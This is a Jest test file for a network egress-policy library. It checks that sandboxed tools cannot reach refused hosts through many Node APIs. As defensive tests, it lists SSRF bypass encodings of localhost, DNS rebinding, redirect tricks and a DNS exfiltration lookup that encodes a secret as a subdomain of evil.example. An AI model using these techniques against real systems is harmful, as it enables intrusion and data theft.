import { afterEach, describe, expect, it } from '@jest/globals';
import dgram from 'node:dgram';
import dns from 'node:dns';
import { once } from 'node:events';
import http from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import tls from 'node:tls';
import { setTimeout as sleep } from 'node:timers/promises';
import { Auditor, currentCall, enforce, Logger } from '../src/index.js';
import { answerNames, closeServers, later, listening, loopback, serve, toolWith } from './egress.test.kit.js';
import { errorOf, houseWith } from './kit.js';

afterEach(closeServers);

const here = { allowed_domains: ['localhost'], ...loopback };
const denied = expect.objectContaining({ code: 'DOMAIN_DENIED', reason: 'host is not in rules.network.allowed_domains' });
const notPublic = 'address is not public (loopback) and not in rules.network.allowed_addresses';

/** Under Jest, undici takes errors for something else and keeps their text only; a test with a process of its own sees the error. */
const refusedAs = (reason: string): unknown => expect.objectContaining({ message: expect.stringContaining(reason) });

/** How a request over HTTP ended: its text, or its error. */
function get(options: http.RequestOptions, client: { request: typeof http.request } = http): Promise<string> {
  return new Promise((resolve, reject) => {
    const request = client.request(options, (response) => {
      response.setEncoding('utf8');
      let text = '';
      response.on('data', (chunk: string) => (text += chunk));
      response.on('end', () => resolve(text));
    });
    request.on('error', reject).end();
  });
}

function connectTo(options: net.NetConnectOpts): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(options, () => {
      socket.destroy();
      resolve('connected');
    });
    socket.on('error', reject);
  });
}

function sendTo(port: number, host: string, options: dgram.SocketOptions = { type: 'udp4' }): Promise<string> {
  const socket = dgram.createSocket(options);
  return new Promise<string>((resolve, reject) => {
    socket.send('hello', port, host, (error) => (error === null ? resolve('sent') : reject(error)));
  }).finally(() => socket.close());
}

describe('a tool under a network block', () => {
  it('fetches from a host that the policy names', async () => {
    const port = await serve();
    const tool = toolWith(here);

    const text = await tool.run(async () => (await fetch(`http://localhost:${port}/`)).text());

    expect(text).toBe('ok');
    expect(tool.reasons()).toEqual([]);
  });

  it('does not fetch from another; the cause is the refusal', async () => {
    const tool = toolWith(here);

    const error = await errorOf(() => tool.run(() => fetch('http://example.com/')));

    expect(error).toMatchObject({ name: 'TypeError', cause: refusedAs('host is not in rules.network.allowed_domains') });
  });

  it('has every refusal in its entry though it swallows them', async () => {
    const tool = toolWith(here);

    const result = await tool.run(async () => {
      await fetch('http://one.example/').catch(() => undefined);
      await get({ host: 'two.example' }).catch(() => undefined);
      await fetch('http://10.0.0.1/').catch(() => undefined);
      return 'all is well';
    });

    expect(result).toBe('all is well');
    expect(tool.house.auditor.calls[0]).toMatchObject({ decision: 'allowed' });
    expect(tool.house.auditor.calls[0]?.violations).toEqual([
      expect.objectContaining({ type: 'domain_denied', rule: 'rules.network', action: 'block', reason: 'host is not in rules.network.allowed_domains' }),
    ]);
  });

  it('does not follow a redirect to a host that the policy refuses', async () => {
    const secret = await serve((_request, response) => response.end('secret'));
    const port = await serve((_request, response) => response.writeHead(302, { location: `http://127.0.0.1:${secret}/` }).end());
    const tool = toolWith(here);

    await expect(tool.run(() => fetch(`http://localhost:${port}/`))).rejects.toMatchObject({ cause: refusedAs('host is not in rules.network.allowed_domains') });
  });

  it.each(['127.0.0.1', '0x7f.1', '2130706433', '0177.0.0.1', '[::1]', '[::ffff:7f00:1]', '127.1', 'localhost'])('cannot reach this machine as %s', async (host) => {
    const port = await serve();
    const tool = toolWith({ allowed_domains: ['*'] });

    await expect(tool.run(() => fetch(`http://${host}:${port}/`))).rejects.toMatchObject({ cause: refusedAs(notPublic) });
    await expect(tool.run(() => get({ host: host.replace(/[[\]]/g, ''), port }))).rejects.toMatchObject({ reason: notPublic });
  });

  it('reaches an address that allowed_domains spells out', async () => {
    const port = await serve();
    const tool = toolWith({ allowed_domains: ['127.0.0.1'] });

    await expect(tool.run(() => get({ host: '127.0.0.1', port }))).resolves.toBe('ok');
    await expect(tool.run(() => get({ host: '127.0.0.2', port }))).rejects.toEqual(denied);
  });

  it('is held to its rules by http and https, with and without an agent', async () => {
    const port = await serve();
    const tool = toolWith(here);
    const agent = new http.Agent({ keepAlive: true });
    later(() => agent.destroy());

    await expect(tool.run(() => get({ host: 'localhost', port }))).resolves.toBe('ok');
    await expect(tool.run(() => get({ host: 'localhost', port, agent }))).resolves.toBe('ok');
    for (const given of [{}, { agent: false as const }, { agent }, { createConnection: net.connect as never }]) {
      await expect(tool.run(() => get({ host: '127.0.0.1', port, ...given }))).rejects.toEqual(denied);
    }
    await expect(tool.run(() => get({ host: '127.0.0.1', port }, https))).rejects.toEqual(denied);
    await expect(tool.run(() => get({ host: 'localhost', port }, https))).rejects.toMatchObject({ code: expect.stringMatching(/^(EPROTO|ERR_SSL)/) });
  });

  it('is held to its rules by net and tls, however they are called', async () => {
    const port = await listening(net.createServer((socket) => socket.end()));
    const tool = toolWith(here);

    await expect(tool.run(() => connectTo({ host: 'localhost', port }))).resolves.toBe('connected');
    const attempts: (() => net.Socket)[] = [
      () => net.connect({ host: '127.0.0.1', port }),
      () => net.connect(port, '127.0.0.1'),
      () => net.createConnection(port, '127.0.0.1', () => undefined),
      () => new net.Socket().connect(port, '127.0.0.1'),
      () => new net.Socket().connect({ port, host: '127.0.0.1' }),
      () => net.connect(Object.create({ host: '127.0.0.1', port }) as net.NetConnectOpts),
      () => tls.connect({ host: '127.0.0.1', port, servername: 'localhost' }),
      () => tls.connect(port, '127.0.0.1'),
    ];
    for (const attempt of attempts) {
      await expect(tool.run(() => new Promise((resolve, reject) => attempt().on('connect', resolve).on('error', reject)))).rejects.toEqual(denied);
    }
  });

  it('gets the refusal as the first error, though it writes at once', async () => {
    const tool = toolWith(here);

    const error = await tool.run(async () => {
      const socket = net.connect(80, '192.0.2.1');
      socket.write('smuggled');
      return (await once(socket, 'error')) as unknown[];
    });

    expect(error).toEqual([denied]);
  });

  it('cannot show one host to the check and another to the connection', async () => {
    const port = await listening(net.createServer((socket) => socket.end()));
    const tool = toolWith(here);
    const changing = (): { port: number; readonly host: string; reads: number } => ({
      port,
      reads: 0,
      get host() {
        return this.reads++ === 0 ? 'localhost' : '127.0.0.1';
      },
    });
    const given = changing();

    const connected = tool.run(async () => {
      const socket = new net.Socket().connect(given);
      await once(socket, 'connect');
      socket.destroy();
      return 'connected';
    });

    await expect(connected).resolves.toBe('connected');
    expect(given.reads).toBe(1);
    await expect(tool.run(() => connectTo({ port, host: { toString: () => '127.0.0.1' } as never }))).rejects.toMatchObject({ code: 'ERR_INVALID_ARG_TYPE' });
    await expect(tool.run(() => connectTo({ port, host: 5 as never }))).rejects.toMatchObject({ code: 'ERR_INVALID_ARG_TYPE' });
    // Node takes it for this machine.
    await expect(toolWith({ allowed_domains: ['*'] }).run(() => connectTo({ port, host: 0 as never }))).rejects.toMatchObject({ reason: notPublic });
    const lookup: net.LookupFunction = (_host, _options, callback) => callback(null, [{ address: '127.0.0.1', family: 4 }]);
    await expect(tool.run(() => connectTo({ port, host: 5 as never, lookup }))).rejects.toMatchObject({ reason: 'host is no text' });
  });

  it('opens no socket of this machine by its path', async () => {
    const path = join(tmpdir(), `egress-${process.pid}.sock`);
    const server = net.createServer((socket) => socket.end());
    await new Promise<void>((resolve) => server.listen(path, resolve));
    later(() => server.close());
    const tool = toolWith({ allowed_domains: ['*'], ...loopback });
    const reason = 'sockets of this machine (a path instead of a host) cannot be allowed';

    await expect(tool.run(() => connectTo({ path }))).rejects.toMatchObject({ reason });
    await expect(tool.run(() => get({ socketPath: path }))).rejects.toMatchObject({ reason });
    await expect(tool.run(() => new Promise((_resolve, reject) => net.connect(path).on('error', reject)))).rejects.toMatchObject({ reason });
  });

  it('is held to its rules by http2', async () => {
    const server = http2.createServer((_request, response) => response.end('ok'));
    const port = await listening(server);
    const tool = toolWith(here);
    const ask = (authority: string): Promise<string> =>
      new Promise((resolve, reject) => {
        const session = http2.connect(authority).on('error', reject);
        const stream = session.request({ ':path': '/' }).on('error', reject).setEncoding('utf8');
        stream.on('data', resolve).on('end', () => session.destroy());
      });

    await expect(tool.run(() => ask(`http://localhost:${port}`))).resolves.toBe('ok');
    await expect(tool.run(() => ask(`http://127.0.0.1:${port}`))).rejects.toMatchObject({ cause: denied });
  });

  it('is held to its rules by WebSocket', async () => {
    if (typeof WebSocket !== 'function') return;
    const port = await serve();
    const tool = toolWith(here);

    const event = await tool.run(() => new Promise<string>((resolve) => (new WebSocket(`ws://127.0.0.1:${port}/`).onerror = ({ type }) => resolve(type))));

    expect(event).toBe('error');
    expect(tool.reasons()).toEqual(['host is not in rules.network.allowed_domains']);
  });

  it('sends no datagram where it may not connect', async () => {
    const server = dgram.createSocket('udp4');
    await new Promise<void>((resolve) => server.bind(0, '127.0.0.1', resolve));
    later(() => server.close());
    const { port } = server.address();
    const tool = toolWith(here);
    const connect = async (host: string): Promise<string> => {
      const socket = dgram.createSocket('udp4');
      try {
        socket.connect(port, host);
        await once(socket, 'connect');
        return 'connected';
      } finally {
        socket.close();
      }
    };

    await expect(tool.run(() => sendTo(port, 'localhost'))).resolves.toBe('sent');
    await expect(tool.run(() => connect('localhost'))).resolves.toBe('connected');
    await expect(tool.run(() => sendTo(port, '127.0.0.1'))).rejects.toEqual(denied);
    await expect(tool.run(() => connect('127.0.0.1'))).rejects.toEqual(denied);
    await expect(sendTo(port, '127.0.0.1')).resolves.toBe('sent');
  });

  it('sends no datagram from within bind', async () => {
    const server = dgram.createSocket('udp4');
    await new Promise<void>((resolve) => server.bind(0, '127.0.0.1', resolve));
    later(() => server.close());
    const { port } = server.address();
    const tool = toolWith(here);
    const lookup = ((_host: string, _options: unknown, callback: (...answer: unknown[]) => void) => callback(null, '127.0.0.1', 4)) as never;
    const attempts: ((send: (socket: dgram.Socket) => void) => void)[] = [
      (send) => {
        const other = dgram.createSocket('udp4');
        const binds = dgram.createSocket('udp4');
        later(() => [other, binds].forEach((socket) => socket.close()));
        binds.bind({
          get port() {
            send(other);
            return 0;
          },
        });
      },
      (send) => {
        const own = dgram.createSocket({ type: 'udp4', lookup });
        later(() => own.close());
        // Held from here on, and not bound.
        expect(() => own.send('x', -1, 'localhost')).toThrow('Port');
        own.on('listening', () => send(own)).bind(0, 'localhost');
      },
      (send) => {
        const faked = Object.create(dgram.Socket.prototype) as dgram.Socket;
        Object.assign(faked, { [Symbol('state symbol')]: { bindState: 2, handle: { lookup: () => undefined } } });
        Reflect.apply(dgram.Socket as never, faked, ['udp4']);
        later(() => faked.close());
        send(faked);
      },
    ];
    for (const attempt of attempts) {
      const sent = tool.run(() => new Promise((resolve, reject) => attempt((socket) => socket.send('x', port, '127.0.0.1', (error) => (error === null ? resolve('sent') : reject(error))))));
      await expect(sent).rejects.toEqual(denied);
    }
  });

  it('has the answers of its own lookup judged, of datagrams too', async () => {
    const port = await serve();
    const tool = toolWith({ allowed_domains: ['good.example'] });
    const lookup = ((_host: string, options: dns.LookupOptions, callback: (...answer: unknown[]) => void) => {
      if (options.all === true) callback(null, [{ address: '127.0.0.1', family: 4 }]);
      else callback(null, '127.0.0.1', 4);
    }) as net.LookupFunction;

    await expect(tool.run(() => get({ host: 'good.example', port, lookup }))).rejects.toMatchObject({ reason: notPublic });
    await expect(tool.run(() => connectTo({ host: 'good.example', port, lookup }))).rejects.toMatchObject({ reason: notPublic });
    await expect(tool.run(() => sendTo(port, 'good.example', { type: 'udp4', lookup: lookup as never }))).rejects.toMatchObject({ reason: notPublic });
  });

  it('connects to the address that was judged: a name is looked up once', async () => {
    const port = await serve();
    let answers = 0;
    const names = await answerNames(() => (answers++ === 0 ? '127.0.0.1' : '127.0.0.2'));
    const resolver = new dns.Resolver();
    resolver.setServers([`127.0.0.1:${names.port}`]);
    const lookup = ((host: string, options: dns.LookupOptions, callback: (...answer: unknown[]) => void) => {
      resolver.resolve4(host, (error, addresses) => {
        if (options.all === true) callback(error, addresses.map((address) => ({ address, family: 4 })));
        else callback(error, addresses[0], 4);
      });
    }) as net.LookupFunction;
    const tool = toolWith({ allowed_domains: ['rebinding.example'], allowed_addresses: ['127.0.0.1'] });

    await expect(tool.run(() => get({ host: 'rebinding.example', port, lookup, agent: false }))).resolves.toBe('ok');
    await expect(tool.run(() => get({ host: 'rebinding.example', port, lookup, agent: false }))).rejects.toMatchObject({ reason: notPublic });
    expect(names.asked).toEqual(['rebinding.example', 'rebinding.example']);
  });

  it('asks no resolver for a name that the policy refuses', async () => {
    const names = await answerNames(() => '127.0.0.1');
    const resolver = new dns.Resolver();
    const later2 = new dns.promises.Resolver();
    for (const one of [resolver, later2]) one.setServers([`127.0.0.1:${names.port}`]);
    const tool = toolWith({ allowed_domains: ['good.example'] });
    const asCallback = (ask: (callback: (error: Error | null) => void) => void): (() => Promise<unknown>) =>
      () => new Promise<void>((resolve, reject) => ask((error) => (error === null ? resolve() : reject(error))));
    const leak = 'c2VjcmV0.evil.example';

    const attempts = [
      asCallback((done) => resolver.resolve4(leak, done)),
      asCallback((done) => resolver.resolve(leak, 'TXT', done)),
      asCallback((done) => resolver.resolveTxt(leak, done)),
      asCallback((done) => dns.lookup(leak, done)),
      asCallback((done) => dns.resolve4(leak, done)),
      asCallback((done) => dns.resolveAny(leak, done)),
      asCallback((done) => dns.reverse('192.0.2.1', done)),
      asCallback((done) => dns.lookupService('192.0.2.1', 53, done)),
      () => later2.resolve6(leak),
      () => dns.promises.lookup(leak),
      () => dns.promises.resolveMx(leak),
      () => dns.promises.reverse('192.0.2.1'),
    ];
    for (const attempt of attempts) await expect(tool.run(attempt)).rejects.toEqual(denied);
    await expect(tool.run(() => later2.resolve4('good.example'))).resolves.toEqual(['127.0.0.1']);
    expect(names.asked).toEqual(['good.example']);
  });

  it('cannot choose the servers that resolve names', async () => {
    const tool = toolWith({ allowed_domains: ['*'] });

    for (const choose of [() => dns.setServers(['192.0.2.1']), () => dns.promises.setServers(['192.0.2.1']), () => new dns.Resolver().setServers(['192.0.2.1']), () => new dns.promises.Resolver().setServers(['192.0.2.1'])]) {
      await expect(tool.run(choose)).rejects.toMatchObject({ reason: 'a tool may not choose the servers that resolve names' });
    }
  });

  it('is held to its rules after its call has ended', async () => {
    const port = await serve();
    const tool = toolWith(here);
    const logged: unknown[] = [];
    tool.house.container.rebind(Logger).toConstantValue({ log: (level, message, fields) => void logged.push([level, message, fields?.['reason']]) });
    let left: Promise<unknown> | undefined;

    await tool.run(() => {
      left = sleep(5).then(() => get({ host: '127.0.0.1', port }));
      left.catch(() => undefined);
    });

    await expect(left).rejects.toEqual(denied);
    expect(tool.reasons()).toEqual([]);
    expect(logged).toEqual([['warn', '"net" tried to connect where its policy does not let it, after its call had ended', 'host is not in rules.network.allowed_domains']]);
  });

  it('is held to its rules where others run its code: its iterator, and what listens to its signal', async () => {
    const port = await listening(net.createServer((socket) => socket.destroy()), '127.0.0.1');
    const { container, auditor } = houseWith({ network: { ...here, action: 'block' }, resource_limits: { max_call_duration_seconds: 0.01 } });
    const tried: Promise<unknown>[] = [];
    const attempt = (): void => void tried.push(errorOf(() => connectTo({ host: '127.0.0.1', port })));
    const listens = enforce(async () => {
      currentCall()?.signal.addEventListener('abort', attempt);
      await new Promise(() => undefined);
    }, { container, tool: 'listens' });
    const iterable = enforce(
      async () => ({
        [Symbol.asyncIterator]() {
          attempt();
          return { next: async () => ({ done: true, value: undefined }) };
        },
      }),
      { container, tool: 'iterable' },
    );

    await errorOf(() => listens());
    for await (const chunk of (await iterable()) as unknown as AsyncIterable<unknown>) expect(chunk).toBeUndefined();

    expect(await Promise.all(tried)).toEqual([denied, denied]);
    expect(auditor.calls).toHaveLength(2);
  });

  it('cannot take the hooks off, nor leave its rules by a mark that it finds', async () => {
    const port = await serve();
    const tool = toolWith(here);
    const installed = (net.Socket.prototype as unknown as Record<symbol, object>)[Symbol.for('@enforcecore/core/egress')] ?? {};
    const agent = new http.Agent();
    let found: symbol | undefined;
    (agent as unknown as { createConnection: unknown }).createConnection = (options: net.NetConnectOpts) => {
      found = Object.getOwnPropertySymbols(options).find(({ description }) => description === 'egress scope');
      return net.connect(options);
    };

    await tool.run(() => get({ host: 'localhost', port, agent }));

    expect(typeof found).toBe('symbol');
    for (const mark of [null, {}, undefined]) {
      await expect(tool.run(() => connectTo({ host: '127.0.0.1', port, [found as symbol]: mark }))).rejects.toEqual(denied);
    }
    expect(Object.isFrozen(installed)).toBe(true);
    expect(Object.values(installed).map((value) => typeof value)).toEqual(['function']);
  });

  it('has what it tries after its call in the log though its entry is full, and nothing in the entry changes any more', async () => {
    const denials = Array.from({ length: 60 }, (_, n) => `host${n}.example`);
    const tool = toolWith({ denied_domains: denials, deny_all_other: false });
    const logged: unknown[] = [];
    tool.house.container.rebind(Logger).toConstantValue({ log: (_level, _message, fields) => void logged.push(fields?.['reason']) });
    const ask = async (from: number, to: number): Promise<void> => {
      for (const host of denials.slice(from, to)) await errorOf(() => dns.promises.lookup(host));
    };
    let left: Promise<void> | undefined;
    let goOn: () => void = () => undefined;

    await tool.run(async () => {
      await ask(0, 20);
      left = new Promise<void>((resolve) => (goOn = resolve)).then(() => ask(20, 50));
    });
    const entry = JSON.stringify(tool.house.auditor.calls);
    goOn();
    await left;

    expect(tool.reasons()).toHaveLength(17);
    expect(logged).toHaveLength(17);
    expect(logged.at(-1)).toBe('connections were refused for other reasons as well, which are not listed');
    expect(JSON.stringify(tool.house.auditor.calls)).toBe(entry);
  });

  it('makes calls whose own rooms may connect, and whose tools have their own rules', async () => {
    const port = await serve();
    const seen: unknown[] = [];
    const { container } = houseWith({ network: { ...here, action: 'block' } });
    container.rebind(Auditor).toConstantValue({
      begin: () => undefined,
      record: async () => {
        seen.push(await get({ host: '127.0.0.1', port }));
        return { entryId: 'e' };
      },
    } satisfies Auditor);
    const inner = enforce(async () => [await get({ host: 'localhost', port }), await errorOf(() => get({ host: '127.0.0.1', port }))], { container, tool: 'inner' });
    const outer = toolWith({ allowed_domains: ['outer.example'] });

    await expect(outer.run(() => inner())).resolves.toEqual(['ok', denied]);
    await expect(outer.run(async () => [await inner(), await errorOf(() => get({ host: 'localhost', port }))])).resolves.toEqual([['ok', denied], denied]);
    expect(seen).toEqual(['ok', 'ok']);
  });

  it('refuses nothing in monitor mode, and notes what it would refuse', async () => {
    const port = await serve();
    const tool = toolWith({ allowed_domains: ['good.example'] }, { mode: 'monitor' });

    await expect(tool.run(async () => (await fetch(`http://127.0.0.1:${port}/`)).text())).resolves.toBe('ok');
    expect(tool.house.auditor.calls[0]?.violations).toEqual([
      expect.objectContaining({ action: 'would_block', reason: 'host is not in rules.network.allowed_domains' }),
      expect.objectContaining({ action: 'would_block', reason: notPublic }),
    ]);
  });

  it('only notes where the rule only logs', async () => {
    const port = await serve();
    const tool = toolWith({ allowed_domains: ['good.example'], action: 'log' });

    await expect(tool.run(() => get({ host: '127.0.0.1', port }))).resolves.toBe('ok');
    expect(tool.reasons()).toEqual(['host is not in rules.network.allowed_domains', notPublic]);
  });

  it('lists sixteen different refusals and counts the others', async () => {
    const denials = Array.from({ length: 30 }, (_, n) => `host${n}.example`);
    const tool = toolWith({ denied_domains: denials, deny_all_other: false });

    await tool.run(async () => {
      for (const host of denials) await get({ host }).catch(() => undefined);
    });

    expect(tool.reasons()).toHaveLength(17);
    expect(tool.reasons()[16]).toBe('14 more connections were refused for other reasons');
  });
});

describe('code in no enforced call', () => {
  it('connects wherever it likes, also while a tool runs', async () => {
    const port = await serve();
    const tool = toolWith({ allowed_domains: [] });
    let free: () => void = () => undefined;
    const running = tool.run(() => new Promise<void>((resolve) => (free = resolve)));

    await expect(get({ host: '127.0.0.1', port })).resolves.toBe('ok');
    await expect(fetch(`http://127.0.0.1:${port}/`).then((answer) => answer.text())).resolves.toBe('ok');
    await expect(dns.promises.lookup('localhost')).resolves.toMatchObject({ family: expect.any(Number) });
    free();
    await running;
  });
});
